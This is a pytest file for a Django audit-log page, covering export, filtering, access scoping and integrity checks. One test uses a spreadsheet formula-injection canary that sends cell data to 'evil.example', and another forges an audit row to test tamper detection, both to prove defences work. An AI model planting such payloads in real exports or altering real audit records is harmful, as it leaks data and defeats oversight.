"""The auditor's page: list, filter, export (xlsx, CSV); reading and exporting are themselves recorded;
auditors see their engagements' events and account events, nothing else."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.utils import timezone

from handover.audit.models import Event
from handover.audit.services import event_record
from handover.org.models import Role
from tests.factories import EngagementFactory, PersonFactory, UserFactory


def seed(world):
    other = EngagementFactory()
    event_record(actor=None, action="org.site.create", engagement_id=world.engagement.pk, obj=world.branch_a)
    event_record(
        actor=None,
        action="org.site.create",
        engagement_id=other.pk,
        object_type="org.site",
        object_id="999",
        after={"name": "别家营业部"},
    )
    member = world.login_with(Role.OBSERVER)
    event_record(actor=None, action="accounts.login.failed", obj=member)
    return other


def test_auditor_lists_and_filters_own_engagement_and_account_events(client, world):
    other = seed(world)
    auditor = world.login_with(Role.AUDITOR)
    client.force_login(auditor)
    page = client.get("/audit/").content.decode()
    assert "org.site.create" in page and "accounts.login.failed" in page
    ids = set(Event.objects.filter(engagement_id=other.pk).values_list("seq", flat=True))
    assert ids and not any(f"<td>{seq}</td>" in page for seq in ids)
    filtered = client.get("/audit/", {"action": "accounts.login.failed"}).content.decode()
    assert "accounts.login.failed" in filtered and '<code class="hash">org.site.create' not in filtered
    assert Event.objects.filter(action="audit.view", actor_id=auditor.pk).count() == 2


def test_xlsx_export_opens_and_is_recorded(client, world):
    seed(world)
    auditor = world.login_with(Role.AUDITOR)
    client.force_login(auditor)
    response = client.get("/audit/export.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(book.active.iter_rows(values_only=True))
    assert len(rows) >= 3 and rows[0][0] in ("Seq", "序号")
    assert not any("别家营业部" in str(cell) for row in rows for cell in row)
    assert Event.objects.filter(action="audit.export", actor_id=auditor.pk).exists()


def test_csv_export_streams_with_a_bom_for_spreadsheet_programs(client, world):
    seed(world)
    client.force_login(world.login_with(Role.AUDITOR))
    response = client.get("/audit/export.csv", {"action": "org.site.create"})
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 2 and rows[1][13] == "org.site.create"  # the raw code, in its machine column
    # UX review M2: the export's time is the page's (Beijing), not UTC, and so is the file's name.
    from django.utils import timezone

    event = Event.objects.get(action="org.site.create", seq=int(rows[1][0]))
    assert rows[1][1] == timezone.localtime(event.occurred_at).strftime("%Y-%m-%d %H:%M:%S")
    assert rows[0][1] in ("Time (Beijing)", "时间（北京时间）")
    assert "Z." not in response["Content-Disposition"]


def test_technical_group_cannot_read_the_trail(client, world):
    client.force_login(world.login_with(Role.TECH_GROUP))
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv").status_code == 403


def test_auditor_sees_account_events_only_of_their_engagements_users(client, world):
    """L5: an auditor of engagement A does not read B's logins and account changes."""
    other = EngagementFactory()
    stranger = UserFactory(username="b-engagement-login")
    PersonFactory(engagement=other, user=stranger, name="乙方人员")
    event_record(actor=stranger, action="accounts.login", obj=stranger)
    event_record(actor=None, action="accounts.login.failed", obj=stranger)
    mine = world.login_with(Role.OBSERVER, username="a-engagement-login")
    event_record(actor=mine, action="accounts.login", obj=mine)
    client.force_login(world.login_with(Role.AUDITOR))
    page = client.get("/audit/").content.decode()
    assert "a-engagement-login" in page
    assert "b-engagement-login" not in page
    api = client.get("/api/audit/events/", {"limit": 500}).json()
    names = {row["actor_username"] for row in api["results"]}
    assert "a-engagement-login" in names and "b-engagement-login" not in names
    exported = b"".join(client.get("/audit/export.csv").streaming_content).decode()
    assert "b-engagement-login" not in exported and str(stranger.pk) not in [
        row[14].split(":")[-1] for row in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) if row
    ]


CANARY = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def test_formula_in_a_login_name_stays_text_in_both_exports(client, world):
    """M5: the review's canary login name comes out as text, not a live formula or link."""
    canary = UserFactory(username=CANARY)
    event_record(actor=canary, action="accounts.login", engagement_id=world.engagement.pk, obj=canary)
    event_record(
        actor=None,
        action="org.site.create",
        engagement_id=world.engagement.pk,
        object_type="org.site",
        object_id="1",
        after={"name": "@SUM(1+1)"},
    )
    client.force_login(world.login_with(Role.AUDITOR))
    text = b"".join(client.get("/audit/export.csv").streaming_content).decode().lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + CANARY in cells
    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in cells if not cell.lstrip("-").isdigit())
    response = client.get("/audit/export.xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        names = archive.namelist()
    assert "<f>" not in sheet and not any("hyperlink" in n.lower() or "rels/sheet1" in n for n in names)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    actors = [row[2] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert CANARY in actors


BAD_FILTERS = [
    ("since", "notadate"),
    ("until", "2026-13-45"),
    ("engagement", "abc"),
    ("engagement", "1e5"),
]


@pytest.mark.parametrize(("name", "value"), BAD_FILTERS)
def test_bad_filter_answers_400_naming_the_filter(client, world, name, value):
    """L1: a bad date or id in the audit filters is the reader's mistake, answered as such, never a 500."""
    client.force_login(world.login_with(Role.AUDITOR))
    api = client.get("/api/audit/events/", {name: value})
    assert api.status_code == 400 and api.json()["field"] == name
    page = client.get("/audit/", {name: value})
    assert page.status_code == 400
    assert ("YYYY-MM-DD" if name != "engagement" else "仅限数字") in page.content.decode()
    assert client.get("/audit/export.csv", {name: value}).status_code == 400
    assert client.get("/audit/export.xlsx", {name: value}).status_code == 400
    assert not Event.objects.filter(action__in=["audit.view", "audit.export"]).exists()


def test_good_date_filters_still_work(client, world):
    seed(world)
    client.force_login(world.login_with(Role.AUDITOR))
    today = timezone.localdate().isoformat()
    assert client.get("/api/audit/events/", {"since": today, "until": today}).json()["count"] >= 1
    assert (
        client.get("/audit/", {"since": "2000-01-01", "engagement": str(world.engagement.pk)}).status_code
        == 200
    )


def test_the_auditor_page_shows_the_chain_head_and_the_last_checkpoint(client, world, settings, tmp_path):
    """M3: events after the last checkpoint are covered by the head the auditor can note down."""
    from handover.audit import selectors, services

    settings.HANDOVER_CHECKPOINT_KEY = tmp_path / "signer" / "checkpoint.key"
    settings.HANDOVER_CHECKPOINT_DIR = tmp_path / "checkpoints"
    seed(world)
    client.force_login(world.login_with(Role.AUDITOR))
    page = client.get("/audit/").content.decode()
    seq, digest = selectors.chain_head()
    assert digest in page and f"event {seq}" in page.replace("事件 ", "event ")
    _, signed = services.checkpoint_write(actor=None)
    page = client.get("/audit/").content.decode()
    seq, digest = selectors.chain_head()
    assert digest in page and str(signed) in page


# ---------------------------------------------------------------- UX review M7: readable for an auditor


def test_the_object_column_names_objects_in_a_constant_number_of_queries(client, world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(world.login_with(Role.AUDITOR))

    def queries() -> int:
        with CaptureQueriesContext(connection) as seen:
            assert client.get("/audit/").status_code == 200
        return len(seen)

    event_record(actor=None, action="org.site.create", engagement_id=world.engagement.pk, obj=world.branch_a)
    queries()  # the first request of a session reads more (the session, the roles)
    few = queries()
    for site in (world.branch_b, world.hq, world.branch_a):
        event_record(actor=None, action="org.site.update", engagement_id=world.engagement.pk, obj=site)
    assert queries() == few
    page = client.get("/audit/").content.decode()
    assert f">{world.branch_b}</a></td>" in page  # issue 17: the name links to the object's events
    assert f">org.site {world.branch_b.pk}</td>" not in page


def test_the_export_says_names_and_words_with_the_raw_codes_at_the_end(client, world):
    event_record(
        actor=None,
        action="org.site.create",
        engagement_id=world.engagement.pk,
        site_id=world.branch_a.pk,
        obj=world.branch_a,
        after={"name": "杭州营业部", "codes": ["a", "b"]},
    )
    client.force_login(world.login_with(Role.AUDITOR))
    text = b"".join(client.get("/audit/export.csv", {"action": "org.site.create"}).streaming_content).decode()
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[:2]
    assert row[3] == str(world.engagement) and row[4] == str(world.branch_a) == row[6]
    assert row[5] in ("Site created", "站点已创建") or "org.site" not in row[5]
    assert row[8] == "name: 杭州营业部\ncodes: a、b"  # no JSON blob in the reader's columns
    assert row[9] in ("Success", "成功")
    assert row[13] == "org.site.create" and row[14] == f"org.site:{world.branch_a.pk}"
    assert row[16].startswith("{") and len(header) == len(row)


def test_a_wrong_code_while_approving_is_recorded_as_that_and_still_counts(world):
    from handover.accounts import services as accounts
    from handover.core.errors import DomainError
    from tests.vault.helpers import enrol_totp

    approver = world.login_with(Role.ONSITE_POST, site=world.branch_a)
    totp = enrol_totp(approver)
    wrong = next(c for c in ("000000", "111111", "222222") if c != totp.now())
    with pytest.raises(DomainError):
        accounts.totp_verify(user=approver, code=wrong, approving=True)
    event = Event.objects.filter(object_id=str(approver.pk)).latest("seq")
    assert event.action == "accounts.totp.failed.approval" and event.actor_id == approver.pk
    assert not Event.objects.filter(action__startswith="accounts.login.failed", object_id=str(approver.pk))
    approver.refresh_from_db()
    # A stolen session must not try every code at the approval page (tests/vault/test_approve_lockout.py).
    assert approver.totp_failures == 1
    with pytest.raises(DomainError):
        accounts.totp_verify(user=approver, code=wrong)
    login = Event.objects.filter(object_id=str(approver.pk)).latest("seq")
    assert login.action == "accounts.totp.failed" and login.actor_id is None


def test_the_auditor_verifies_the_chain_from_the_page_and_the_check_is_recorded(client, world):
    from django.db import connection

    auditor = world.login_with(Role.AUDITOR)
    client.force_login(auditor)
    assert client.get("/audit/verify/").status_code == 405
    page = client.post("/audit/verify/", follow=True).content.decode()
    assert "verify-chain" in page
    check = Event.objects.filter(action="audit.verify").latest("seq")
    assert check.actor_id == auditor.pk and check.outcome == "success" and check.after["problems"] == []
    if connection.vendor != "sqlite":
        return  # PostgreSQL's guards are roles and rules (tests/audit/test_attacks.py); here, SQLite's triggers
    with connection.cursor() as cursor:
        cursor.execute("DROP TRIGGER audit_event_no_update")
        cursor.execute("UPDATE audit_event SET after = '{\"forged\": 1}' WHERE seq = %s", [check.seq])
    client.post("/audit/verify/")
    broken = Event.objects.filter(action="audit.verify").latest("seq")
    assert broken.outcome == "failure" and broken.after["problems"] == [f"edited {check.seq}"]


def test_a_login_name_typed_at_a_failed_login_does_not_hide_the_other_names(world):
    from handover.audit.naming import object_names

    member = world.login_with(Role.OBSERVER, username="named-member")
    names = object_names([("accounts.user", "no-such-login"), ("accounts.user", str(member.pk))])
    assert names == {("accounts.user", str(member.pk)): str(member)}
